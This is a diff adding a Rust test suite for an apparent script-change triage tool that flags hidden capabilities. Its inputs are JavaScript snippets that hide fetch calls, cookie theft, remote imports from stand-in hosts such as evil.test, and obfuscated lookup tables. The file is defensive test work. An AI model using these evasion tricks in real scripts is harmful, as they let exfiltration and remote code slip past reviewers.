@@ -1,0 +1,266 @@
+//! Ways to keep a capability, a host or a line from the reviewer, each under the name of the way.
+
+use pinfold_triage::{Capability, Change, Findings, Limits, NotAnalysed, compare};
+
+fn changed(old: &[u8], new: &[u8]) -> Findings {
+    compare(Some(old), new, Limits::default(), &|_| None)
+}
+
+fn added(script: &str) -> Findings {
+    changed(b"var version = 1;", script.as_bytes())
+}
+
+#[track_caller]
+fn says(script: &str, capability: Capability) {
+    let findings = added(script);
+    assert_eq!(findings.not_analysed, None, "{script}");
+    let found: Vec<_> = findings.facts.iter().map(|fact| fact.capability).collect();
+    assert!(found.contains(&capability), "{script}: {found:?}");
+}
+
+#[test]
+fn a_global_behind_a_frame_is_a_global() {
+    for script in [
+        "frames[0]['fe' + 'tch'](u)",
+        "window.frames[0].fetch(u)",
+        "frame.contentWindow.fetch(u)",
+        "frame['content' + 'Window'].fetch(u)",
+        "node.ownerDocument.defaultView.fetch(u)",
+        "opener['fe' + 'tch'](u)",
+        "var other = window.open('about:blank'); other.fetch(u)",
+    ] {
+        says(script, Capability::Fetch);
+    }
+}
+
+#[test]
+fn a_name_that_is_put_together_is_named_whatever_it_is_a_member_of() {
+    for script in [
+        "new Proxy(window, {})['fe' + 'tch'](u)",
+        "var o = {}; o.x = window; o.x['fe' + 'tch'](u)",
+        "var a = []; a.push(window); a[0]['fe' + 'tch'](u)",
+        "class W { static w = window; } W.w['fe' + 'tch'](u)",
+        "for (const w of [window]) w['fe' + 'tch'](u)",
+        "[window].map(w => w['fe' + 'tch'](u))",
+        "new Map([['a', window]]).get('a')['fe' + 'tch'](u)",
+        "Object.create(window).fetch(u)",
+        "new Proxy(window, {}).fetch(u)",
+    ] {
+        says(script, Capability::Fetch);
+    }
+}
+
+#[test]
+fn this_of_a_plain_call_is_the_global_object() {
+    says("(function () { return this })()['fe' + 'tch'](u)", Capability::Fetch);
+    says("(0, function () { return this })().fetch(u)", Capability::Fetch);
+}
+
+#[test]
+fn a_global_that_is_taken_apart_is_used() {
+    says("const { ['fe' + 'tch']: f } = window; f(u)", Capability::Fetch);
+    says("var f; ({ fetch: f } = window); f(u)", Capability::Fetch);
+    says("function g({ fetch: q }) { q(u) } g(window)", Capability::Fetch);
+    says("const { document: { cookie: c } } = window", Capability::Cookies);
+    says("(({ cookie: c }) => c)(document)", Capability::Cookies);
+}
+
+#[test]
+fn with_hides_no_name() {
+    says("with (document) { send(cookie) }", Capability::Cookies);
+    says("with (navigator) { sendBeacon(u) }", Capability::Beacon);
+    says("with (x) { y(z) }", Capability::UnknownGlobal);
+}
+
+#[test]
+fn functions_that_reach_members_by_name_hide_none() {
+    says("Object.getOwnPropertyDescriptor(window, 'fetch').value(u)", Capability::Fetch);
+    says(
+        "Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)",
+        Capability::Cookies,
+    );
+    says("document.__lookupGetter__('cookie').call(document)", Capability::Cookies);
+    says("Object.values(window)[17](u)", Capability::UnknownGlobal);
+    says("Object.entries(window).find(e => e[0] == n)[1](u)", Capability::UnknownGlobal);
+    says("Reflect.set(node, 'innerHTML', x)", Capability::Html);
+    says("Object.assign(node, { innerHTML: x })", Capability::Html);
+    says("Object.assign(document, { onkeydown: f })", Capability::KeyListener);
+    says("Object.getPrototypeOf(async function () {}).constructor('x')()", Capability::FunctionConstructor);
+    says("Function['call'](null, 'x')()", Capability::FunctionConstructor);
+}
+
+#[test]
+fn navigation_under_another_name_is_navigation() {
+    says("var o = window.open; o(u)", Capability::Navigation);
+    says("location.assign.call(location, u)", Capability::Navigation);
+    says("document.location.href = u", Capability::Navigation);
+}
+
+#[test]
+fn a_name_that_is_written_again_hides_no_earlier_value() {
+    says("let k = 'fetch'; window[k](u); k = 'x'", Capability::UnknownGlobal);
+    says("let k = 'fe'; k += 'tch'; window[k](u)", Capability::UnknownGlobal);
+    says("let t = 'script'; document.createElement(t); t = 'b'", Capability::UnknownElement);
+    says("let w = 1; w = window; w = w; w.fetch(u)", Capability::Fetch);
+    says(
+        "function t() { return 'b' } t = function () { return 'script' }; document.createElement(t())",
+        Capability::UnknownElement,
+    );
+    says("var w = x || window; w['fe' + 'tch'](u)", Capability::Fetch);
+}
+
+#[test]
+fn a_list_that_is_changed_is_not_what_stands_where_it_was_made() {
+    says("var t = ['b', 'script']; t.reverse(); document.createElement(t[0])", Capability::UnknownElement);
+    says("var o = { t: 'b' }; o.t = 'script'; document.createElement(o.t)", Capability::UnknownElement);
+    says("var o = { t: 'b' }; Object.assign(o, p); document.createElement(o.t)", Capability::UnknownElement);
+}
+
+#[test]
+fn a_function_that_is_handed_on_takes_any_argument() {
+    let script = "function make(t) { return document.createElement(t) } make('b'); ['script'].map(make)";
+    says(script, Capability::UnknownElement);
+    let calls = "make('b');".repeat(5);
+    says(
+        &format!("function make(t) {{ return document.createElement(t) }} {calls} make(x)"),
+        Capability::UnknownElement,
+    );
+}
+
+#[test]
+fn an_event_of_a_list_is_not_known_and_that_is_said() {
+    says("['keydown'].forEach(e => document.addEventListener(e, f))", Capability::UnknownEvent);
+}
+
+#[test]
+fn builtins_that_are_worked_out_wrongly_would_hide_a_name() {
+    says("window['😀fetch'.slice(2)](u)", Capability::UnknownGlobal);
+    says("window['fetch'.substring(5, 0)](u)", Capability::Fetch);
+    says("window['fxetcxh'.replace(/x/, '').replace(/x/, '')](u)", Capability::UnknownGlobal);
+    says("document['COOKIE'.replace(/[A-Z]/i, 'x')]", Capability::UnknownGlobal);
+    says(
+        "window[Array.from('gfudi', c => String.fromCharCode(c.charCodeAt(0) - 1)).join('')](u)",
+        Capability::UnknownGlobal,
+    );
+}
+
+#[test]
+fn a_timer_of_a_text_that_is_not_known_runs_it() {
+    says("setTimeout(c + ')', 1)", Capability::StringTimer);
+    says("setTimeout(atob(x), 1)", Capability::StringTimer);
+    says("setTimeout(`${x}`, 1)", Capability::StringTimer);
+}
+
+#[test]
+fn what_loads_without_a_request_is_a_request() {
+    says("document.createElement('link').href = u", Capability::Resource);
+    says("document.scripts[0].src = u", Capability::Resource);
+    says("old.cloneNode().setAttribute('src', u)", Capability::Resource);
+    says("new Audio(u)", Capability::Resource);
+    says("new FontFace('x', 'url(' + u + ')').load()", Capability::Resource);
+    says("node.style.background = 'url(' + u + ')'", Capability::Resource);
+    says("import 'https://evil.test/a.js'", Capability::DynamicImport);
+    says("CSS.paintWorklet.addModule(u)", Capability::Worker);
+}
+
+#[test]
+fn questions_of_the_environment_are_facts() {
+    says("'webdriver' in navigator", Capability::Automation);
+    says("new Date().getFullYear() > 2026", Capability::Date);
+    says("String(location)", Capability::Location);
+    says("location + ''", Capability::Location);
+    says("location[k](u)", Capability::UnknownGlobal);
+    says("new FormData(document.forms[0])", Capability::FormListener);
+}
+
+/// What `javascript-obfuscator` and its like make: the table is turned until a sum is right, so that its order is not known.
+#[test]
+fn a_table_that_is_turned_round_is_a_fact_and_not_read_in_the_wrong_order() {
+    let script = "function table() { var t = ['cookie', '11x', 'title', 'a', 'b']; table = function () { return t; }; return table(); }
+        function read(i) { return table()[i]; }
+        (function (t, sum) { var list = t(); while (true) { try { if (parseInt(read(0)) === sum) break; else list['push'](list['shift']()); } catch (e) { list['push'](list['shift']()); } } })(table, 11);
+        send(document[read(4)])";
+    says(script, Capability::ShuffledTable);
+    says(script, Capability::UnknownGlobal);
+}
+
+#[test]
+fn a_host_in_any_of_the_ways_that_browsers_read_is_named() {
+    for (url, host) in [
+        ("https:evil.test/x", "evil.test"),
+        ("https:\\\\\\\\evil.test/x", "evil.test"),
+        ("/\\\\evil.test/x", "evil.test"),
+        ("ht\\ntps://ev\\til.test/x", "evil.test"),
+        ("https://evil。test/x", "evil.test"),
+        ("https://3232235777/x", "192.168.1.1"),
+        ("https://0x7f.1/x", "127.0.0.1"),
+        ("https://[2001:db8::1]/x", "[2001:db8::1]"),
+    ] {
+        let findings = changed(b"fetch('/a')", format!("fetch('{url}')").as_bytes());
+        let hosts: Vec<_> = findings.hosts.iter().map(|found| &*found.host).collect();
+        assert_eq!(hosts, [host], "{url}");
+    }
+    let findings = added("f(p + '://' + 'evil.test' + '/x')");
+    assert_eq!(findings.hosts.first().map(|found| &*found.host), Some("evil.test"));
+}
+
+#[test]
+fn many_hosts_in_plain_sight_do_not_push_out_the_hidden_one() {
+    let crowd: String = (0..1000).map(|at| format!("f('https://h{at}.test/');")).collect();
+    let findings = added(&format!("{crowd} f('https://ev' + 'il.example/')"));
+    assert!(findings.hosts.iter().any(|found| &*found.host == "evil.example" && found.hidden));
+    assert_eq!(findings.not_analysed, Some(NotAnalysed::TooMuch));
+}
+
+#[test]
+fn a_comment_of_scripts_that_is_code_in_modules_is_no_trivia() {
+    for hidden in ["x <!--fetch(u).y", "x = y <!--z.n"] {
+        let findings = changed(b"x", hidden.as_bytes());
+        assert_eq!(
+            (findings.change, findings.not_analysed),
+            (Change::Unknown, Some(NotAnalysed::TwoReadings)),
+            "{hidden}"
+        );
+    }
+    assert_eq!(changed(b"while (n --> 0) f()", b"while (n-->0) f() // v2").change, Change::Trivia);
+    assert_eq!(changed(b"f()", b"<!-- old\nf()\n--> old").change, Change::Trivia);
+}
+
+/// A comment that the scan takes for code could open a comment over what nests too deeply for the parser's stack.
+#[test]
+fn depth_behind_an_html_comment_is_counted() {
+    let deep = "(".repeat(200_000);
+    for script in [
+        format!("\n--> /*\n{deep}"),
+        format!("/*\n*/ --> `\n{deep}"),
+        format!("a\u{2028}--> \"\n{deep}"),
+        format!("x <!-- /*\n{deep}"),
+    ] {
+        let code = added(&script).not_analysed.map(|why| why.code());
+        assert_eq!(code, Some("too-deep"), "{:?}", script.get(..12));
+    }
+}
+
+#[test]
+fn bytes_of_another_encoding_are_no_trivia() {
+    assert_eq!(changed(b"f('\x81')", b"f('\x82')").change, Change::Data);
+    let utf_16: Vec<u8> = "\u{feff}document.cookie".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let findings = changed(b"f()", &utf_16);
+    assert!(findings.facts.iter().any(|fact| fact.capability == Capability::Cookies), "{findings:?}");
+}
+
+/// Each of these took minutes, and some of them no notice of a deadline.
+#[test]
+fn what_grows_with_the_square_is_bounded() {
+    let texts: String = (0..800).map(|at| format!("window[a + 'x{at}'];")).collect();
+    let hosts: Vec<String> = (0..10_000).map(|at| format!("'https://h{at}.test/'")).collect();
+    for (name, script) in [
+        ("writes", format!("var a; {}", "a=1;".repeat(60_000))),
+        ("hosts", format!("x = [{}]", hosts.join(","))),
+        ("texts", format!("var a = 'a'.repeat(262000); {texts}")),
+    ] {
+        let findings = added(&script);
+        assert_ne!(findings.not_analysed, Some(NotAnalysed::Failed), "{name}");
+        assert_ne!(findings.not_analysed, Some(NotAnalysed::TimeOver), "{name}");
+    }
+}
